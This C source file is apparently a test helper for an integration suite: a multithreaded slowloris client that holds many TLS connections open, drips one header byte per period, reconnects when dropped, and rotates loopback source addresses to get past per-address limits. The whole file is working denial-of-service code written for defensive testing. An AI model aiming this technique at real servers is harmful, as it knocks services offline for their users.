/*
 * pa_slow_clients — the slowloris attacker of tests/integration/slow_clients.sh
 * (a test tool, never installed).  It keeps N TLS connections open to a server
 * and sends, on each, one byte of a request header every P seconds, so that no
 * request ever completes; a connection the server drops is opened again at once.
 * Source addresses are spread over 127.0.0.2 .. 127.0.0.(1+A) so that a
 * per-address limit alone cannot stop it.  Every second it writes one line to
 * standard output:  "t <seconds> open <n> opened <total> dropped <total>
 * failed <total>", where open counts completed TLS handshakes still alive.
 *
 * usage: pa_slow_clients HOST PORT N A P SECONDS
 * (the certificate is not verified: the attacker does not care who answers.)
 */
#include <arpa/inet.h>
#include <errno.h>
#include <gnutls/gnutls.h>
#include <netinet/in.h>
#include <poll.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <time.h>
#include <unistd.h>

#define THREADS 10

typedef struct {
    int fd;
    gnutls_session_t tls;
    size_t iNext; /* next byte of the header to send */
} slow_conn;

static const char *g_zHost;
static int g_port, g_nConn, g_nAddr, g_period, g_seconds;
static gnutls_certificate_credentials_t g_cred;
static atomic_int g_nOpen, g_nOpened, g_nDropped, g_nFailed, g_bStop;
static const char g_zHeader[] =
    "POST /tasks/0000000000000000000000000000000000000000000000000000000000000000/reports HTTP/1.1\r\n"
    "Host: victim\r\nContent-Type: application/octet-stream\r\nContent-Length: 75000\r\nX-Pad: "
    "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";

static void conn_close(slow_conn *c)
{
    if (c->tls) {
        gnutls_deinit(c->tls);
        c->tls = NULL;
    }
    if (c->fd >= 0)
        close(c->fd);
    c->fd = -1;
}

static int conn_open(slow_conn *c, int iAddr)
{
    struct sockaddr_in sa;
    struct timeval tv = {5, 0};
    char zFrom[32];

    c->fd = socket(AF_INET, SOCK_STREAM, 0);
    if (c->fd < 0)
        return -1;
    setsockopt(c->fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
    setsockopt(c->fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof tv);
    snprintf(zFrom, sizeof zFrom, "127.0.0.%d", 2 + iAddr % g_nAddr);
    memset(&sa, 0, sizeof sa);
    sa.sin_family = AF_INET;
    inet_pton(AF_INET, zFrom, &sa.sin_addr);
    if (bind(c->fd, (struct sockaddr *)&sa, sizeof sa) != 0)
        goto fail;
    memset(&sa, 0, sizeof sa);
    sa.sin_family = AF_INET;
    sa.sin_port = htons((uint16_t)g_port);
    inet_pton(AF_INET, g_zHost, &sa.sin_addr);
    if (connect(c->fd, (struct sockaddr *)&sa, sizeof sa) != 0)
        goto fail;
    if (gnutls_init(&c->tls, GNUTLS_CLIENT) != GNUTLS_E_SUCCESS)
        goto fail;
    gnutls_set_default_priority(c->tls);
    gnutls_credentials_set(c->tls, GNUTLS_CRD_CERTIFICATE, g_cred);
    gnutls_transport_set_int(c->tls, c->fd);
    int rc;
    do
        rc = gnutls_handshake(c->tls);
    while (rc < 0 && !gnutls_error_is_fatal(rc));
    if (rc < 0)
        goto fail;
    c->iNext = 0;
    atomic_fetch_add(&g_nOpened, 1);
    atomic_fetch_add(&g_nOpen, 1);
    return 0;
fail:
    atomic_fetch_add(&g_nFailed, 1);
    conn_close(c);
    return -1;
}

/* The server closed it (EOF or reset readable), or a send failed. */
static int conn_dead(slow_conn *c)
{
    struct pollfd p = {c->fd, POLLIN, 0};
    return poll(&p, 1, 0) > 0 && (p.revents & (POLLIN | POLLHUP | POLLERR));
}

static void *run(void *pArg)
{
    int iThread = (int)(intptr_t)pArg;
    int nMine = g_nConn / THREADS + (iThread < g_nConn % THREADS);
    slow_conn *a = calloc((size_t)nMine, sizeof *a);
    for (int i = 0; i < nMine; i++)
        a[i].fd = -1;
    while (!atomic_load(&g_bStop)) {
        struct timespec t0;
        clock_gettime(CLOCK_MONOTONIC, &t0);
        for (int i = 0; i < nMine && !atomic_load(&g_bStop); i++) {
            slow_conn *c = &a[i];
            if (c->fd >= 0 && conn_dead(c)) {
                conn_close(c);
                atomic_fetch_sub(&g_nOpen, 1);
                atomic_fetch_add(&g_nDropped, 1);
            }
            if (c->fd < 0) {
                conn_open(c, iThread * nMine + i);
                continue;
            }
            if (c->iNext < sizeof g_zHeader - 1 &&
                gnutls_record_send(c->tls, g_zHeader + c->iNext, 1) == 1)
                c->iNext++;
        }
        /* one byte per connection per period */
        for (int k = 0; k < g_period * 10 && !atomic_load(&g_bStop); k++) {
            usleep(100000);
            for (int i = 0; i < nMine; i++)
                if (a[i].fd >= 0 && conn_dead(&a[i])) {
                    conn_close(&a[i]);
                    atomic_fetch_sub(&g_nOpen, 1);
                    atomic_fetch_add(&g_nDropped, 1);
                    conn_open(&a[i], iThread * nMine + i);
                } else if (a[i].fd < 0) {
                    conn_open(&a[i], iThread * nMine + i);
                }
        }
    }
    for (int i = 0; i < nMine; i++)
        if (a[i].fd >= 0) {
            conn_close(&a[i]);
            atomic_fetch_sub(&g_nOpen, 1);
        }
    free(a);
    return NULL;
}

int main(int argc, char **argv)
{
    pthread_t aThread[THREADS];
    if (argc != 7) {
        fprintf(stderr, "usage: pa_slow_clients HOST PORT N ADDRESSES PERIOD_S SECONDS\n");
        return 2;
    }
    g_zHost = argv[1];
    g_port = atoi(argv[2]);
    g_nConn = atoi(argv[3]);
    g_nAddr = atoi(argv[4]);
    g_period = atoi(argv[5]);
    g_seconds = atoi(argv[6]);
    if (g_port <= 0 || g_nConn <= 0 || g_nAddr <= 0 || g_nAddr > 250 || g_period <= 0 || g_seconds <= 0) {
        fprintf(stderr, "slow_clients: bad arguments\n");
        return 2;
    }
    gnutls_global_init();
    gnutls_certificate_allocate_credentials(&g_cred);
    for (int i = 0; i < THREADS; i++)
        pthread_create(&aThread[i], NULL, run, (void *)(intptr_t)i);
    for (int t = 1; t <= g_seconds; t++) {
        sleep(1);
        printf("t %d open %d opened %d dropped %d failed %d\n", t, atomic_load(&g_nOpen),
               atomic_load(&g_nOpened), atomic_load(&g_nDropped), atomic_load(&g_nFailed));
        fflush(stdout);
    }
    atomic_store(&g_bStop, 1);
    for (int i = 0; i < THREADS; i++)
        pthread_join(aThread[i], NULL);
    gnutls_certificate_free_credentials(g_cred);
    gnutls_global_deinit();
    return 0;
}
